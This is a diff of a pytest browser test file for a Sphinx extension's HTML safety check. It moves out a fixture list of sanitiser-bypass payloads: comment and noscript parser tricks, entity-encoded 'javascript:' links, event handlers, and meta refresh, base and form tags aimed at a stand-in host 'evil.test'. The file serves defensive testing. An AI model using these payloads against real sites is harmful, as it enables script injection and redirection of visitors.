@@ -17,79 +17,14 @@ from collections.abc import Iterator
 from typing import Any
 
 import pytest
+from hostile_pages import BENIGN, HOSTILE, POLICY, page_with
 
-from juju_radar.sphinx_ext.csp import PagePolicy
 from juju_radar.sphinx_ext.safety import check_page_html
 
 pytestmark = pytest.mark.browser
 
 PAGE_URL = "http://radar.test/archive/page.html"
-EVIL = "http://evil.test"
-REFRESH = f"0;url={EVIL}/"
-POLICY = PagePolicy.for_code([], [], ["search.html"])
-PAGE = (
-    "<!DOCTYPE html>\n<html lang=zh-CN><head><meta charset=utf-8>"
-    f"{POLICY.meta_tag}<title>页面</title></head>"
-    "<body><main><p>前文</p>{fragment}<p>后文</p></main></body></html>"
-)
 
-# The bypasses of the regular-expression check the issue reports, then the families it
-# holds back, then regression cases of this change; each refused.
-HOSTILE = [
-    # a tag behind a comment; U+00A0 is not HTML white space
-    f'<!--<a title="--><meta http-equiv=refresh content={REFRESH}>">',
-    f'<meta x=\u00a0" http-equiv=refresh content={REFRESH}">',
-    # comments, bogus comments, processing instructions, "--!>"
-    f"<!-- x --!><meta http-equiv=refresh content={REFRESH}>",
-    f"<!x><base href={EVIL}/>",
-    "</ x><script>document.title='ran'</script>",
-    f"<?x><form action={EVIL}/><button>去</button></form>",
-    "<!--><base href=//evil.test/>",
-    "<!---><meta http-equiv=refresh content=0>",
-    # attribute break-outs, entity-encoded and spaced schemes
-    '<a title="x" href="jav&#x09;ascript:alert(1)">链接</a>',
-    '<a href="&#106;avascript:alert(1)">链接</a>',
-    '<a href=" javascript:alert(1)">链接</a>',
-    '<a href="java&#10;script:alert(1)">链接</a>',
-    '<img alt="a"onerror=alert(1) src=_static/a.png>',
-    '<p title="x"/onclick=alert(1)>段</p>',
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<svg><animate attributeName=href to="javascript:alert(1)"/></svg>',
-    # forms, bases, scripts, styles, frames, plugins
-    f'<form action=search.html><button formaction="{EVIL}/">去</button></form>',
-    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
-    f"<object data={EVIL}/x></object>",
-    f"<embed src={EVIL}/x>",
-    '<meta http-equiv="Refresh" content="0">',
-    f'<meta http-equiv="content-security-policy" content="script-src {EVIL}">',
-    "<style>@import url(//evil.test/x.css);</style>",
-    f"<link rel=stylesheet href={EVIL}/x.css>",
-    f'<div style="background:url({EVIL}/t.png)">块</div>',
-    "<svg><style>*{color:red}</style></svg>",
-    "<svg><script>alert(1)</script></svg>",
-    f"<table><form action={EVIL}/><tr><td>x</td></tr></table>",
-    f'<a href="https://example.org/" ping="{EVIL}/">链接</a>',
-    # <noscript>: text where scripts run, markup where they do not
-    '<noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript>',
-    f"<noscript><!--</noscript><textarea>--><meta http-equiv=refresh content={REFRESH}></textarea>",
-    f'<noscript><!--</noscript><p title="--><meta http-equiv=refresh content={REFRESH}>">'
-    "</p></noscript>",
-    # a shadow root a parser attaches without any script
-    "<div><template shadowrootmode=open><style>*{color:red}</style></template></div>",
-    "<textarea><!--</textarea><script>alert(1)</script>-->",
-]
-# Text that looks hostile and is not: passed, and nothing in either DOM.
-BENIGN = [
-    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
-    "<!-- <script>alert(1)</script> <meta http-equiv=refresh content=0> -->",
-    f'<p title="<meta http-equiv=refresh content={REFRESH}>">段</p>',
-    '<a href="https://example.org/">链接</a>',
-    "<?xml version='1.0'?><p>段</p>",
-    "<p class=x\u00a0onclick=alert(1)>段</p>",
-    '<a href="java\u00a0script:alert(1)">链接</a>',
-    "<!--x--!><p>段</p>",
-    "<!-- a -- b --!-><style>*{color:red}</style>-->",  # "--!-" does not end it
-]
 
 # What Chromium's DOM holds that a page may not: run in the page, over the document
 # and every shadow root a parser attached.
@@ -184,7 +119,7 @@ def chromium_findings(contexts: tuple[Any, Any], page: str) -> list[str]:
 
 
 def verdicts(contexts: tuple[Any, Any], fragment: str) -> tuple[list[str], list[str]]:
-    page = PAGE.replace("{fragment}", fragment)
+    page = page_with(fragment)
     refusals: list[str] = []
     check_page_html(page, refusals.append, POLICY)
     return refusals, chromium_findings(contexts, page)
@@ -212,7 +147,7 @@ def test_a_passed_page_holds_nothing_in_chromium(contexts: tuple[Any, Any], frag
 def test_what_the_check_leaves_of_a_refused_page_is_clean_in_chromium(
     contexts: tuple[Any, Any], fragment: str
 ) -> None:
-    page = PAGE.replace("{fragment}", fragment)
+    page = page_with(fragment)
     cleaned = check_page_html(page, lambda refusal: None, POLICY)
     assert chromium_findings(contexts, cleaned) == []
     again: list[str] = []
